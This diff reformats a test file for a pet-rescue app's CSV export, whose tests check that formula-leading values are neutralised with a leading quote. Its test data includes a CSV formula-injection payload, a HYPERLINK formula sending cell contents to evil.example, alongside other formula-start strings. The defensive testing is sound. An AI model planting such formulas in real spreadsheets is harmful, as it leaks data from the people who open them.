@@ -15,7 +15,16 @@ import { cellFromCsv, csvText, spreadsheetSafe } from '../../src/main/files/csv'
 import type { PetProfileChange } from '../../src/shared/pet-profile';
 import { makeTempDir, removeTempDir } from '../helpers/temp-dir';
 
-const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1 cat', '-Minus', '@SUM(A1:A9)', "'=already quoted", "''+two quotes", "'Tis", 'Plain Biscuit'];
+const HOSTILE_NAMES = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  '+1 cat',
+  '-Minus',
+  '@SUM(A1:A9)',
+  "'=already quoted",
+  "''+two quotes",
+  "'Tis",
+  'Plain Biscuit',
+];
 const HOSTILE_PROFILE: PetProfileChange = {
   breedPrimary: '@Beagle',
   color: '=1+1',
@@ -63,8 +72,16 @@ describe('the CSV writer', () => {
     expect(spreadsheetSafe("'＝1")).toBe("''＝1");
     expect(cellFromCsv("''＝1")).toBe("'＝1");
     expect(spreadsheetSafe('Rex ＝ good dog')).toBe('Rex ＝ good dog');
-    const file = csvText(['name'], FULL_WIDTH_STARTS.map((text) => [text]));
-    expect((parse(file) as string[][]).slice(1).flat().filter((cell) => FULL_WIDTH_FORMULA_START.test(cell))).toEqual([]);
+    const file = csvText(
+      ['name'],
+      FULL_WIDTH_STARTS.map((text) => [text]),
+    );
+    expect(
+      (parse(file) as string[][])
+        .slice(1)
+        .flat()
+        .filter((cell) => FULL_WIDTH_FORMULA_START.test(cell)),
+    ).toEqual([]);
   });
 });
 
@@ -82,7 +99,11 @@ describe('every CSV we write keeps formulas text', () => {
     return readPetImport(backup).then((rows) => {
       expect(rows.map((row) => row.pet.name)).toEqual(HOSTILE_NAMES);
       for (const row of rows) expect(row.profile).toEqual(HOSTILE_PROFILE);
-      const created = engine.services.pets.importMany(rows.map((row) => row.pet), undefined, (pet, index) => engine.services.petProfiles.writeImported(pet.id, rows[index]!.profile));
+      const created = engine.services.pets.importMany(
+        rows.map((row) => row.pet),
+        undefined,
+        (pet, index) => engine.services.petProfiles.writeImported(pet.id, rows[index]!.profile),
+      );
       expect(created.map((pet) => pet.name)).toEqual(HOSTILE_NAMES);
       for (const pet of created) expect(engine.services.petProfiles.get(pet.id)).toEqual(HOSTILE_PROFILE);
     });
@@ -90,8 +111,20 @@ describe('every CSV we write keeps formulas text', () => {
 
   it('the RescueGroups file: the name and description start with a quote, not a formula', async () => {
     const pet = engine.services.pets.create({ name: HOSTILE_NAMES[0]!, categoryId: 1, status: 'available' });
-    engine.services.petProfiles.set(pet.id, { ...HOSTILE_PROFILE, breedPrimary: 'Beagle', sex: 'male', birthDate: '2020' });
-    await engine.services.photos.add(pet.id, [{ name: 'a.jpg', bytes: await sharp({ create: { width: 320, height: 240, channels: 3, background: '#888' } }).jpeg().toBuffer() }]);
+    engine.services.petProfiles.set(pet.id, {
+      ...HOSTILE_PROFILE,
+      breedPrimary: 'Beagle',
+      sex: 'male',
+      birthDate: '2020',
+    });
+    await engine.services.photos.add(pet.id, [
+      {
+        name: 'a.jpg',
+        bytes: await sharp({ create: { width: 320, height: 240, channels: 3, background: '#888' } })
+          .jpeg()
+          .toBuffer(),
+      },
+    ]);
     const out = path.join(dataDir, 'rg');
     engine.publishing.portals.exportRescueGroups(out, { allowDrops: false });
     const written = cells(path.join(out, 'rescuegroups.csv'));
